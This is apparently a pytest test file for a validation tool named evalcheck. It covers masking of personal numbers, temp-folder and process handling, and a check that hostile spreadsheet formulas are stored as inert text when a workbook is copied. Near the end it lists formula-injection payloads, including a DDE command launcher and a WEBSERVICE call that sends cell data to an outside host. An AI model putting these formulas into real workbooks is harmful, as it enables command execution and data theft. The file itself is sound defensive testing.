        for name, value in (("TMPDIR", first), ("TEMP", second), ("TMP", "")):
            monkeypatch.setenv(name, str(value))
        settle_on_a_folder()
        assert Path(tempfile.gettempdir()) == found


@pytest.mark.parametrize(
    ("written", "masked"),
    [
        ("１３８００００１２３４", "１３８****１２３４"),
        ("138\u200b0000\u200b1234", "138****1234"),
        ("1\u200b380000123\u200b4", "1\u200b38****123\u200b4"),
        ("138.0000.1234", "138****1234"),
        ("+86 138 0000 1234", "+86 138****1234"),
        ("120104-19880212-713X", "1201************3X"),
        ("1201 0419880212713X".replace(" ", "\u200b"), "1201************3X"),
        ("１２０１０４１９８８０２１２７１３Ｘ", "1201************3X"),
        ("zhang.san＠example．com", "z***＠example．com"),
        ("-张三身份证.jpg", "-张*身份证.jpg"),
        (" 王小明的简历", " 王**的简历"),
        ("-法人身份证.jpg", None),
        ("-高管身份证", None),
        ("-裴试乙身份证.jpg", "-裴**身份证.jpg"),
        ("-司马试丁的简历", "-司马**的简历"),
        ("-安全员身份证", None),
        ("-项目方毕业证", None),
        ("120104880212713", "1201*********13"),
        ("120104009912713", None),
        ("120104012212713", None),
        ("12010488021271", None),
        ("企业高新人员身份证", None),
        ("常用身份证件说明", None),
        ("91120101MA05U0F53T", None),
        ("2021-2022 1380", None),
        ("13812 3456 789", None),
        ("138.0000", None),
        ("1380 0001 2345 6789", None),
        ("120104 19880212 7138", None),
        ("共1380000123条", None),
    ],
)
def test_personal_numbers_are_masked_however_they_are_written_and_others_are_not(written: str, masked: str | None) -> None:
    assert swept(f"见 {written}。") == f"见 {masked or written}。"


@pytest.mark.parametrize("closed", ["stdout", "stderr", "stdin"])
@posix
def test_a_closed_stream_is_no_failure(closed: str, tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text("x", "utf-8")
    redirected = {"stdout": ">&-", "stderr": "2>&-", "stdin": "<&-"}[closed]
    command = f'"{sys.executable}" -m evalcheck validate "{tmp_path}" --as-of 2022-05-30 --lang zh {redirected}'
    done = subprocess.run(["sh", "-c", command], capture_output=True, check=False)
    assert done.returncode == 1 and (closed == "stdout" or "不通过" in done.stdout.decode("utf-8"))


@linux
@pytest.mark.parametrize(("language", "words"), [("zh", "不能从管道读取；请先存成文件"), ("en", "cannot be read from a pipe")])
def test_a_package_from_a_pipe_is_refused_as_one(language: str, words: str) -> None:
    command = [sys.executable, "-m", "evalcheck", "validate", "/dev/stdin", "--lang", language]
    done = subprocess.run(command, input=b"PK", capture_output=True, check=False)
    assert done.returncode == 3 and words in done.stderr.decode("utf-8")


@pytest.mark.parametrize("left", ["no tables", "no run", "a run that was stopped"])
def test_no_sample_is_drawn_from_an_audit_that_was_not_finished(left: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "store").mkdir()
    if left == "no tables":
        sqlite3.connect(tmp_path / "store" / "audit.sqlite").execute("VACUUM").connection.close()
    else:
        store = Store(tmp_path / "store")
        if left != "no run":
            store.keep_meta("run", {"number": 1, "finished": False, "rules": "tianjin-2021"})
        store.close()
    assert run(["sample", str(tmp_path), "--size", "5", "--seed", "1", "--lang", "zh"]) == 2
    assert "--resume" in capsys.readouterr().err and not list(tmp_path.glob("*.xlsx"))


# --- other systems, imitated: what differs there by the code ---


def test_without_limits_of_the_system_a_child_works_and_the_wall_clock_alone_bounds_it(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(child, "resource", None)
    monkeypatch.delattr(signal, "setitimer", raising=False)
    monkeypatch.delattr(signal, "getitimer", raising=False)
    child.bound_memory(Limits())
    with child.bounded_growth(1), child.bounded_time(0.001):
        assert sum(range(100_000)) and len(bytes(10**7)) == 10**7
    assert child.time_left() == 0 and child.cpu_clock() > 0


@posix
def test_where_the_system_follows_links_they_are_looked_for_first(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(ordinary, "_FLAGS", os.O_RDONLY)
    monkeypatch.setattr(ordinary, "_FOLLOWS", True)
    (tmp_path / "a").write_bytes(b"x")
    (tmp_path / "link").symlink_to("a")
    assert ordinary.read_file(tmp_path / "a") == b"x"
    with pytest.raises(ordinary.NotOrdinary):
        ordinary.read_file(tmp_path / "link")


def test_a_junction_of_windows_leads_elsewhere_and_a_file_kept_in_the_cloud_does_not() -> None:
    def state(tag: int) -> os.stat_result:
        return SimpleNamespace(st_mode=stat.S_IFDIR, st_reparse_tag=tag)  # type: ignore[return-value]

    assert [ordinary.leads_elsewhere(state(tag)) for tag in (0xA0000003, 0x9000001A, 0)] == [True, False, False]


@posix
@pytest.mark.parametrize(("error", "stays"), [(None, True), (ProcessLookupError, False), (PermissionError, True)])
def test_on_a_mac_a_folder_whose_process_is_dead_is_removed(
    error: type[OSError] | None, stays: bool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:  # fmt: skip
    def kill(pid: int, number: int) -> None:
        if error and pid == 4242 and number == 0:
            raise error

    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    monkeypatch.setattr(leftovers.sys, "platform", "darwin")
    monkeypatch.setattr(leftovers.os, "kill", kill)
    monkeypatch.setattr(leftovers, "_namespace", lambda: 0)
    (tmp_path / "evalcheck-4242-0-0-abcdefgh").mkdir()
    remove_leftovers.cache_clear()
    remove_leftovers()
    assert (tmp_path / "evalcheck-4242-0-0-abcdefgh").exists() == stays


@pytest.mark.parametrize(("handle", "code", "last", "lives"), [(7, 259, 0, True), (7, 0, 0, False), (0, 0, 5, True), (0, 0, 87, False)])
def test_on_windows_a_process_lives_if_it_is_still_active_or_not_ours_to_ask(
    handle: int, code: int, last: int, lives: bool, monkeypatch: pytest.MonkeyPatch
) -> None:  # fmt: skip
    def told(_: int, place: object) -> int:
        place._obj.value = code  # type: ignore[attr-defined]
        return 1

    kernel = SimpleNamespace(
        OpenProcess=lambda *_: handle, GetLastError=lambda: last, GetExitCodeProcess=told, CloseHandle=lambda _: 1
    )  # fmt: skip
    monkeypatch.setattr("ctypes.windll", SimpleNamespace(kernel32=kernel), raising=False)
    monkeypatch.setattr(leftovers.sys, "platform", "win32")
    assert leftovers._lives(4242, 0) == lives


@posix
def test_ctrl_break_and_a_closed_window_end_the_program_by_the_door(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(signal, "SIGBREAK", signal.SIGUSR1, raising=False)
    with pytest.raises(SystemExit) as left, ending():
        os.kill(os.getpid(), signal.SIGUSR1)
        until(lambda: False, 5)
    assert left.value.code == 128 + signal.SIGUSR1 and signal.getsignal(signal.SIGUSR1) is signal.SIG_DFL


HOSTILE = (
    "=cmd|'/c calc'!A0",
    '=WEBSERVICE("http://example.com/"&A1)',
    '=HYPERLINK("http://example.com","x")',
    "=[1]Sheet1!A1",
    "='[a.xlsx]S'!A1",
    '=IMAGE("http://example.com/a.png")',
    "=RTD(1)",
    '=_xlfn.FILTERXML(1,"x")',
    "=CALL(A1)",
    "=Sheet1!A1+EXEC(A2)",
    "='a|b'!A1",
)
ORDINARY = (
    "=SUM(A1:A3)",
    '=IF(A1>1,"是|[x]","http://")',
    "='表 1'!A1+1",
    "=ROUND(AVERAGE(A1:A2),2)",
    "=_xlfn.XLOOKUP(A1,A2:A3,B2:B3)",
    "=A1&B1",
    "=-A1%",
)


def acting() -> bytes:
    book = Workbook()
    sheet = book.worksheets[0]
    for row, formula in enumerate((*HOSTILE, *ORDINARY), 1):
        sheet.cell(row, 1, formula)
    sheet["B1"] = "见"
    sheet["B1"].hyperlink = "http://example.com"
    sheet["C1"] = ArrayFormula("C1:C2", "=WEBSERVICE(A1:A2)")
    for name, text in (("Auto_Open", "Sheet!$A$1"), ("外部", "cmd|'/c calc'!A0"), ("范围", "Sheet!$A$1:$B$2")):
        book.defined_names[name] = DefinedName(name, attr_text=text)
    for formula in ('"是,否"', HOSTILE[1][1:]):
        rule = DataValidation("list", formula1=formula)
        rule.add("D1")
        sheet.add_data_validation(rule)
        sheet.conditional_formatting.add("A1:B2", FormulaRule([formula]))
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def test_a_copy_of_a_workbook_calls_nothing_and_computes_what_it_computed(tmp_path: Path) -> None:
    stream = io.BytesIO()
    annotate._opened(acting()).save(stream)
    book = load_workbook(io.BytesIO(stream.getvalue()))
    sheet = book.worksheets[0]
    kinds = [(cell.value, cell.data_type) for (cell,) in sheet["A1:A99"] if cell.value is not None]
    assert kinds == [(formula, "s") for formula in HOSTILE] + [(formula, "f") for formula in ORDINARY]
    assert (sheet["C1"].value, sheet["C1"].data_type) == ("=WEBSERVICE(A1:A2)", "s")
    assert sheet["B1"].value == "见" and sheet["B1"].hyperlink is None and list(book.defined_names) == ["范围"]
    assert [one.formula1 for one in sheet.data_validations.dataValidation] == ['"是,否"']
    assert [rule.formula for rules in sheet.conditional_formatting for rule in rules.rules] == [['"是,否"']]
    with zipfile.ZipFile(io.BytesIO(stream.getvalue())) as packed:
        assert not [name for name in packed.namelist() if b'TargetMode="External"' in packed.read(name)]
